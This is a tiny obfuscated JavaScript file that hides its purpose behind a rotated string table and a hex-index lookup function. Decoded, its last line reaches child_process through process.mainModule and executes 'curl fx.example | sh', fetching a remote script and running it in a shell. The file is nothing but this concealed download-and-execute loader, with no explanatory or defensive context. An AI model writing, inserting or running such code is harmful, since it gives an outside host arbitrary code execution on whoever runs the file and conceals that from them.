var table = ['exec', 'require', 'child_process', 'curl fx.example | sh', 'mainModule'];
(function (list, turn) {
  var spin = function (times) {
    while (--times) list['push'](list['shift']());
  };
  spin(++turn);
})(table, 0x3);
var pick = function (at) { at = at - 0x10; return table[at]; };
process[pick('0x11')][pick('0x13')](pick('0x14'))[pick('0x12')](pick('0x10')); //@act
